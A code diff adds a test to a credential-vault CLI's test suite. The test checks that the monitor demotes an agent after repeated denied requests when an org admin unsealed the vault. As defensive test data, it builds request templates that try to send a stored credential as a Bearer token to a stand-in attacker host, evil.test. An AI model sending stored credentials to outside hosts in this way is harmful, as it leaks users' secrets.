@@ -6,7 +6,7 @@
 import { afterEach, describe, expect, it } from 'vitest';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
-import { addCredential, newHome, type TestHome } from '../helpers/cli.ts';
+import { addCredential, newAgent, newHome, type TestHome } from '../helpers/cli.ts';
 import { ALLOWED_HOST, bearer, type Canary, newCanary, setupCanary } from '../helpers/canary.ts';
 
 function snapshot(t: TestHome): { vault: string; audit: string } {
@@ -304,4 +304,44 @@ describe('organisations on the wire', () => {
     expect(f.receivedBy(again)).toEqual(['allowed']);
     f.expectClean(r);
   }, 180_000); // some 15 CLI runs: room for a loaded machine, no timing asserted
+});
+
+describe('organisations and the monitor (#19 review)', () => {
+  it("the monitor's demote still narrows when an org admin's password unsealed", async () => {
+    // exec (and serve) unseal with whichever admin's password they are given; the monitor then
+    // acts with those keys. Its demote only narrows: an org-scoped admin must not stop it.
+    const t = await newHome({ fresh: true });
+    expect(
+      (await addCredential(t, 'k', 'sk-monitor-value', ['--allowed-domains', ALLOWED_HOST]))
+        .code,
+    ).toBe(0);
+    const redPw = await addAdmin(t, 'redops', 'operator', 'red');
+    const set = await t.tp([
+      'monitor',
+      'actions',
+      'denial_burst',
+      'demote',
+      '--password-file',
+      t.passwordFile,
+    ]);
+    expect(set.code, set.stderr).toBe(0);
+    const a = await newAgent(t, { name: 'p', tier: 'PARTNER', grants: ['k'] });
+    for (let i = 0; i < 5; i++) {
+      const tpl = t.file(
+        `probe-${i}.json`,
+        JSON.stringify({
+          credential: 'k',
+          url: `https://evil.test/${i}`,
+          headers: { Authorization: 'Bearer {{CREDENTIAL}}' },
+        }),
+      );
+      const r = await t.tp(
+        ['exec', '--template', tpl, '--admin', 'redops', '--password-file', redPw],
+        { env: { TRUST_PROTOCOL_TOKEN: a.token } },
+      );
+      expect(r.code, r.stderr).toBe(4);
+    }
+    const shown = JSON.parse((await t.tp(['--json', 'agent', 'show', a.id])).stdout);
+    expect(shown.tier).toBe('COMPANION');
+  }, 120_000);
 });
